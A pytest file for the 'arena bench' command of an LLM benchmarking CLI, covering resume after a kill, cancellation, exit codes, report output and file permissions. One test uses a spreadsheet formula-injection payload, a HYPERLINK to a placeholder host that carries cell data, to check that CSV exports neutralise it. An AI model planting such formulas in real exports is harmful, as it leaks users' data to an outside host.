"""`arena bench …` as a user (or CI) runs it: killed with SIGKILL and resumed, cancelled from a
second terminal, on the real embedded SmolLM2, and with the exit codes CI relies on."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import llama_cpp
import pytest
from typer.testing import CliRunner

from arena.cli.bench import bench_app
from tests.support.doubles.ollama import OllamaDouble
from tests.support.models import SMOL

LLAMA, QWEN = "ollama:llama3.2:1b", "ollama:qwen2.5:0.5b"
QUESTIONS = ["Why is the sky blue?", "Name a prime number.", "What is tea?", "Say hello.", "Count to three."]
runner = CliRunner()


@pytest.fixture
def prompts(tmp_path: Path) -> Path:
    path = tmp_path / "questions.txt"
    path.write_text("\n".join(QUESTIONS) + "\n")
    return path


def bench_env(data_dir: Path, double: OllamaDouble) -> dict[str, str]:
    return {
        **os.environ,
        "ARENA_DATA_DIR": str(data_dir),
        "OLLAMA_HOST": double.url,
        "ARENA_EMBEDDED": "0",
        "COLUMNS": "200",
    }


def arena_bench(*args: str) -> list[str]:
    return [sys.executable, "-m", "arena", "bench", *args]


def query(data_dir: Path, sql: str) -> list[tuple]:
    path = data_dir / "arena.db"
    if not path.exists():
        return []
    with sqlite3.connect(path, timeout=15) as db:
        try:
            return db.execute(sql).fetchall()
        except sqlite3.OperationalError:  # the tables are not migrated yet
            return []


def wait_until(condition, *, timeout: float = 60, what: str) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


def test_a_benchmark_killed_with_sigkill_resumes_with_every_item_exactly_once(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    data_dir = tmp_path / "data"
    double.token_delay = 0.04  # about 0.3 s an answer: the kill lands mid-run
    env = bench_env(data_dir, double)
    process = subprocess.Popen(
        arena_bench("run", str(prompts), "--model", LLAMA, "--model", QWEN, "--concurrency", "1", "--seed", "7"),
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        statuses = lambda: Counter(status for (status,) in query(data_dir, "SELECT status FROM bench_items"))  # noqa: E731
        wait_until(lambda: statuses()["done"] >= 3 and statuses()["running"] >= 1, what="a run half done")
        process.send_signal(signal.SIGKILL)
        assert process.wait(timeout=30) == -signal.SIGKILL
    finally:
        if process.poll() is None:
            process.kill()
    before = {row[0]: row[1:] for row in query(data_dir, "SELECT id, status, prompt_id, model FROM bench_items")}
    done_before = {item_id for item_id, (status, *_rest) in before.items() if status == "done"}
    running_before = {item_id for item_id, (status, *_rest) in before.items() if status == "running"}
    [(run_id, run_status)] = query(data_dir, "SELECT id, status FROM bench_runs")
    assert run_status == "running" and running_before and len(done_before) < len(before) == 10

    resumed = subprocess.run(
        arena_bench("resume", run_id[:8], "--quiet"), env=env, capture_output=True, text=True, timeout=120
    )

    assert resumed.returncode == 0, resumed.stderr + resumed.stdout
    after = {row[0]: row[1:] for row in query(data_dir, "SELECT id, status, attempts FROM bench_items")}
    assert {status for status, _ in after.values()} == {"done"} and len(after) == 10
    assert all(after[item_id][1] == 1 for item_id in done_before), "a done item was never redone"
    assert all(after[item_id][1] == 2 for item_id in running_before), "what the kill interrupted was redone once"
    # The engine agrees: each done-before-kill answer was asked for exactly once, across both processes.
    asked = Counter((body["messages"][-1]["content"], body["model"]) for body in double.bodies("/api/chat"))
    prompt_text = {f"{n}": text for n, text in enumerate(QUESTIONS, start=1)}
    for item_id in done_before:
        _status, prompt_id, model = before[item_id]
        assert asked[(prompt_text[prompt_id], model.removeprefix("ollama:"))] == 1
    # An item marked running may or may not have reached the engine before the kill.
    assert 10 <= sum(asked.values()) <= 10 + len(running_before)
    assert query(data_dir, "SELECT status, worker FROM bench_runs") == [("done", None)]


def test_cancel_from_a_second_terminal_stops_the_running_benchmark(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    data_dir = tmp_path / "data"
    double.token_delay = 0.1
    env = bench_env(data_dir, double)
    process = subprocess.Popen(
        arena_bench("run", str(prompts), "-m", LLAMA, "-m", QWEN, "--repeats", "3", "--concurrency", "1"),
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_until(lambda: query(data_dir, "SELECT 1 FROM bench_items WHERE status = 'done'"), what="a first answer")
        [(run_id,)] = query(data_dir, "SELECT id FROM bench_runs")
        cancel = subprocess.run(arena_bench("cancel", run_id[:6]), env=env, capture_output=True, text=True, timeout=60)
        _out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()

    assert cancel.returncode == 0 and "cancelling" in cancel.stdout
    assert process.returncode == 1 and "was cancelled" in err
    assert query(data_dir, "SELECT status FROM bench_runs") == [("cancelled",)]
    statuses = {status for (status,) in query(data_dir, "SELECT status FROM bench_items")}
    assert "running" not in statuses and "pending" in statuses


@pytest.mark.slow
def test_a_small_benchmark_on_the_embedded_smollm2_writes_its_report(tmp_path: Path, prompts: Path) -> None:
    env = {**os.environ, "ARENA_DATA_DIR": str(tmp_path / "data"), "ARENA_EMBEDDED_SLOTS": "1"}
    report = tmp_path / "report"
    small = tmp_path / "two.txt"
    small.write_text("What is 2 + 2?\nName a colour.\n")
    command = arena_bench(
        "run", str(small), "-m", f"{SMOL}@temperature=0.2", "-m", f"{SMOL}@temperature=1.0",
        "-o", "num_predict=8", "--seed", "3", "--quiet", "--report-dir", str(report),
    )  # fmt: skip
    finished = subprocess.run(command, env=env, capture_output=True, text=True, timeout=240)

    assert finished.returncode == 0, finished.stderr + finished.stdout
    data = json.loads((report / "report.json").read_text())
    assert data["summary"]["items"] == {"done": 4}
    assert all(item["answers"][0].strip() and 0 < item["tokens"] <= 8 for item in data["items"])
    assert {i["label"] for i in data["instances"]} == {
        "smollm2-135m-instruct · temp 0.2",
        "smollm2-135m-instruct · temp 1.0",
    }
    versions = {e["engine"]: e["version"] for e in data["environment"][0]["engines"]}
    assert versions["local"] == llama_cpp.__version__
    html = (report / "report.html").read_text()
    assert 'class="chart bars tokens-per-sec"' in html and "http://" not in html.split("</head>")[1].split("<pre>")[0]


def test_an_unreadable_prompt_file_exits_2_naming_the_line_and_writes_no_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"prompt": "fine"}\n{"prompt": 3}\n')

    result = runner.invoke(bench_app, ["run", str(bad), "--model", LLAMA], env={"COLUMNS": "200"})
    listed = runner.invoke(bench_app, ["list"], env={"COLUMNS": "200"})

    assert result.exit_code == 2
    assert "bad.jsonl: line 2: 'prompt' must be a string" in " ".join(result.output.split())
    assert listed.exit_code == 0 and "bad" not in listed.output
    assert query(tmp_path / "arena-data", "SELECT count(*) FROM bench_runs") == [(0,)]


def test_a_bad_model_option_exits_2_with_the_api_s_words(prompts: Path) -> None:
    result = runner.invoke(bench_app, ["run", str(prompts), "-m", f"{LLAMA}@temperature=3"], env={"COLUMNS": "200"})
    assert result.exit_code == 2
    assert "temperature: Input should be less than or equal to 2" in " ".join(result.output.split())


def test_a_failing_item_makes_the_exit_code_non_zero_for_ci(
    tmp_path: Path, double: OllamaDouble, prompts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OLLAMA_HOST", double.url)
    monkeypatch.setenv("ARENA_EMBEDDED", "0")
    monkeypatch.setenv("ARENA_OPENAI_ENDPOINTS", "down=http://127.0.0.1:9/v1")
    report = tmp_path / "report"

    result = runner.invoke(
        bench_app,
        ["run", str(prompts), "-m", LLAMA, "-m", "openai:down/model", "--quiet", "--report-dir", str(report)],
        env={"COLUMNS": "60"},
    )
    succeeded = runner.invoke(bench_app, ["run", str(prompts), "-m", LLAMA, "--quiet"], env={"COLUMNS": "200"})
    listed = runner.invoke(bench_app, ["list"], env={"COLUMNS": "200"})

    assert result.exit_code == 1, result.output
    assert "5 item(s) or judgment(s) failed" in " ".join(result.output.split())
    failures = [line for line in result.output.splitlines() if line.startswith("failed ")]
    assert len(failures) == 5 and all("openai_down~2fmodel__0.7_0.9_40_1.1_-1_0" in line for line in failures)
    assert all(line.endswith("is it running?") for line in failures), "one line each, however narrow"
    data = json.loads((report / "report.json").read_text())
    assert data["summary"]["items"] == {"done": 5, "error": 5}, "the report is written even when items fail"
    assert succeeded.exit_code == 0, succeeded.output
    assert listed.output.count("questions") == 2 and "10/10" in listed.output and "5/5" in listed.output


def test_report_writes_the_files_of_an_earlier_run(
    tmp_path: Path, double: OllamaDouble, prompts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OLLAMA_HOST", double.url)
    monkeypatch.setenv("ARENA_EMBEDDED", "0")
    assert runner.invoke(bench_app, ["run", str(prompts), "-m", LLAMA, "--quiet"]).exit_code == 0
    [(run_id,)] = query(tmp_path / "arena-data", "SELECT id FROM bench_runs")

    out = tmp_path / "out"
    result = runner.invoke(bench_app, ["report", run_id[:5], "--report-dir", str(out)], env={"COLUMNS": "200"})
    missing = runner.invoke(bench_app, ["report", "ffffffff"], env={"COLUMNS": "200"})

    assert result.exit_code == 0, result.output
    assert {p.name for p in out.iterdir()} >= {"report.html", "report.md", "report.json", "items.csv"}
    assert missing.exit_code == 2 and "does not exist" in missing.output


def test_the_report_folder_has_one_name_in_every_command_and_the_old_ones_still_work(
    tmp_path: Path, double: OllamaDouble, prompts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OLLAMA_HOST", double.url)
    monkeypatch.setenv("ARENA_EMBEDDED", "0")
    env = {"COLUMNS": "200"}
    for command in ("run", "resume", "report"):
        shown = runner.invoke(bench_app, [command, "--help"], env=env).output
        assert "--report-dir" in shown and "--report " not in shown and "--out" not in shown, shown

    old_run = runner.invoke(bench_app, ["run", str(prompts), "-m", LLAMA, "--quiet", "--report", str(tmp_path / "a")])
    [(run_id,)] = query(tmp_path / "arena-data", "SELECT id FROM bench_runs")
    old_report = runner.invoke(bench_app, ["report", run_id, "--out", str(tmp_path / "b")])
    both = runner.invoke(bench_app, ["report", run_id, "--out", "x", "--report-dir", "y"], env=env)

    assert old_run.exit_code == 0, old_run.output
    assert "--report is now called --report-dir" in old_run.output
    assert old_report.exit_code == 0, old_report.output
    assert "--out is now called --report-dir" in old_report.output
    assert (tmp_path / "a" / "report.html").exists() and (tmp_path / "b" / "report.html").exists()
    assert both.exit_code == 2 and "give --report-dir or --out, not both" in " ".join(both.output.split())
    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()


def test_a_run_s_report_is_private_and_its_csv_defuses_formulas(
    tmp_path: Path, double: OllamaDouble, monkeypatch: pytest.MonkeyPatch
) -> None:
    attack = '=HYPERLINK("http://e.x/?"&A1)'
    double.reply = [attack]
    monkeypatch.setenv("OLLAMA_HOST", double.url)
    monkeypatch.setenv("ARENA_EMBEDDED", "0")
    prompts = tmp_path / "set.jsonl"
    prompts.write_text(json.dumps({"prompt": "Say it.", "category": "+cmd"}) + "\n")
    report = tmp_path / "report"
    previous = os.umask(0o022)  # the usual umask, which leaves new files readable by everyone
    try:
        result = runner.invoke(
            bench_app, ["run", str(prompts), "-m", LLAMA, "-m", QWEN, "--quiet", "--report-dir", str(report)]
        )
    finally:
        os.umask(previous)

    assert result.exit_code == 0, result.output
    written = [report, *report.rglob("*")]
    assert {p.name for p in written} >= {"report.html", "report.md", "report.json", "items.csv", "judgments.csv"}
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in written} == {
        p.name: 0o700 if p.is_dir() else 0o600 for p in written
    }
    rows = list(csv.DictReader(io.StringIO((report / "items.csv").read_text())))
    assert {(row["category"], row["answer"]) for row in rows} == {("'+cmd", f"'{attack}")}


def test_in_a_pipe_each_finished_item_prints_a_progress_line(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    env = bench_env(tmp_path / "data", double)
    finished = subprocess.run(
        arena_bench("run", str(prompts), "-m", LLAMA), env=env, capture_output=True, text=True, timeout=120
    )
    assert finished.returncode == 0, finished.stderr + finished.stdout
    progress = [line for line in finished.stdout.splitlines() if " item done: " in line]
    assert [line.split()[0] for line in progress] == ["1/5", "2/5", "3/5", "4/5", "5/5"], finished.stdout
    assert "ETA" in progress[0] and "elapsed" in progress[-1]


def test_on_a_40_column_terminal_the_count_and_eta_stay_readable(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    from tests.cli.terminal import arena_env, in_terminal

    env = arena_env(ARENA_DATA_DIR=str(tmp_path / "data"), OLLAMA_HOST=double.url, ARENA_EMBEDDED="0")
    lines = in_terminal(["bench", "run", str(prompts), "-m", LLAMA], columns=40, env=env)
    drawn = [line for line in lines if "5/5" in line]
    assert drawn and "ETA" in drawn[-1], "\n".join(lines)
    assert not any("━" in line for line in lines), "the bar goes first"


def test_judge_num_predict_is_stored_with_the_run_so_resume_keeps_it(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    env = bench_env(tmp_path / "data", double)
    command = arena_bench("run", str(prompts), "-m", LLAMA, "-m", QWEN, "--judge", LLAMA, "--judge-num-predict", "64")
    subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)
    [(judge,)] = query(tmp_path / "data", "SELECT judge FROM bench_runs")
    assert json.loads(judge)["num_predict"] == 64

    alone = runner.invoke(bench_app, ["run", str(prompts), "-m", LLAMA, "--judge-num-predict", "64"])
    assert alone.exit_code == 2 and "needs --judge" in alone.output


def test_the_report_s_reproduce_command_names_the_prompt_path_and_report_folder_used(
    tmp_path: Path, double: OllamaDouble, prompts: Path
) -> None:
    report = tmp_path / "reports" / "nightly"
    command = arena_bench("run", str(prompts), "-m", LLAMA, "--quiet", "--report-dir", str(report))
    finished = subprocess.run(
        command, env=bench_env(tmp_path / "data", double), capture_output=True, text=True, timeout=120
    )
    assert finished.returncode == 0, finished.stderr + finished.stdout
    reproduce = json.loads((report / "report.json").read_text())["reproduce"]
    assert reproduce.startswith(f"arena bench run {prompts} ") and reproduce.endswith(f"--report-dir {report}")
